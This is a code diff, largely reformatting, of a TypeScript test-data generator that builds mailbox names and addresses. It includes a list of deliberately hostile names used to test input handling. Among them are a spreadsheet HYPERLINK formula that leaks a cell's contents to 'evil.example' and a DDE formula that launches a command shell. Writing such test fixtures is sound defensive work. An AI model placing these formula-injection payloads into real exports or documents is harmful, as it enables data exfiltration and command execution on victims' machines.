@@ -8,7 +8,7 @@ export const HOSTILE_NAMES: readonly string[] = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
     '+1 Sales Hotline',
     '-2 Returns Desk',
-    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
     'مكتب المبيعات الإقليمي',
     'שירות לקוחות ישראל',
     '🚀 Launch Team 👩🏽‍💻✨',
@@ -17,11 +17,62 @@ export const HOSTILE_NAMES: readonly string[] = [
 
 /** Local parts for the hostile names (an apostrophe stays: it is legal in an address and breaks naive OData quoting). */
 const HOSTILE_LOCAL_PARTS: readonly string[] = [
-    'img.onerror', "o'brien.bob", 'hyperlink', 'plus.one', 'minus.two', 'at.sum', 'arabic.office', 'hebrew.service', 'rocket.team', 'very.long.name',
+    'img.onerror',
+    "o'brien.bob",
+    'hyperlink',
+    'plus.one',
+    'minus.two',
+    'at.sum',
+    'arabic.office',
+    'hebrew.service',
+    'rocket.team',
+    'very.long.name',
 ];
 
-const FIRST = ['Alex', 'María', 'Jürgen', 'Zoë', 'Nguyễn Văn', 'Aiko', 'Olusegun', 'Siobhán', 'Åsa', 'Priya', 'Chen', 'Fatima', 'Lars', 'Dmitri', 'Grace', 'Mateo', 'Yuki', 'Noa', 'Kwame', 'Isabella'];
-const LAST = ['Smith', 'García', 'Müller', 'Dubois', 'Tanaka', 'Okafor', 'Kowalski', 'Rossi', 'Andersson', 'Patel', 'Wang', 'Haddad', 'Nielsen', 'Ivanov', 'Kim', 'Silva', 'Sato', 'Cohen', 'Mensah', 'Bianchi'];
+const FIRST = [
+    'Alex',
+    'María',
+    'Jürgen',
+    'Zoë',
+    'Nguyễn Văn',
+    'Aiko',
+    'Olusegun',
+    'Siobhán',
+    'Åsa',
+    'Priya',
+    'Chen',
+    'Fatima',
+    'Lars',
+    'Dmitri',
+    'Grace',
+    'Mateo',
+    'Yuki',
+    'Noa',
+    'Kwame',
+    'Isabella',
+];
+const LAST = [
+    'Smith',
+    'García',
+    'Müller',
+    'Dubois',
+    'Tanaka',
+    'Okafor',
+    'Kowalski',
+    'Rossi',
+    'Andersson',
+    'Patel',
+    'Wang',
+    'Haddad',
+    'Nielsen',
+    'Ivanov',
+    'Kim',
+    'Silva',
+    'Sato',
+    'Cohen',
+    'Mensah',
+    'Bianchi',
+];
 const QUEUES = ['Support', 'Sales', 'Billing', 'Returns', 'Partners', 'Careers', 'Info', 'Escalations'];
 const REGIONS = ['EMEA', 'AMER', 'APAC', 'DACH', 'LATAM'];
 
@@ -29,7 +80,11 @@ const asciiCache = new Map<string, string>();
 const ascii = (value: string): string => {
     let out = asciiCache.get(value);
     if (out === undefined) {
-        out = value.normalize('NFD').replace(/[\u0300-\u036f]/g, '').toLowerCase().replace(/[^a-z0-9]/g, '');
+        out = value
+            .normalize('NFD')
+            .replace(/[\u0300-\u036f]/g, '')
+            .toLowerCase()
+            .replace(/[^a-z0-9]/g, '');
         asciiCache.set(value, out);
     }
     return out;
@@ -42,12 +97,22 @@ export function hostileIndexAt(index: number): number | undefined {
 }
 
 /** Name and address of one mailbox; `seq` keeps addresses unique within a domain. */
-export function makeName(rng: Rng, isQueue: boolean, seq: number, domain: string, hostile?: number): { name: string; email: string } {
-    if (hostile !== undefined) return { name: HOSTILE_NAMES[hostile], email: `${HOSTILE_LOCAL_PARTS[hostile]}.${seq}@${domain}` };
+export function makeName(
+    rng: Rng,
+    isQueue: boolean,
+    seq: number,
+    domain: string,
+    hostile?: number,
+): { name: string; email: string } {
+    if (hostile !== undefined)
+        return { name: HOSTILE_NAMES[hostile], email: `${HOSTILE_LOCAL_PARTS[hostile]}.${seq}@${domain}` };
     if (isQueue) {
         const queue = rng.pick(QUEUES);
         const region = rng.pick(REGIONS);
-        return { name: `${queue} ${region} ${seq}`, email: `${queue.toLowerCase()}.${region.toLowerCase()}.${seq}@${domain}` };
+        return {
+            name: `${queue} ${region} ${seq}`,
+            email: `${queue.toLowerCase()}.${region.toLowerCase()}.${seq}@${domain}`,
+        };
     }
     const first = rng.pick(FIRST);
     const last = rng.pick(LAST);
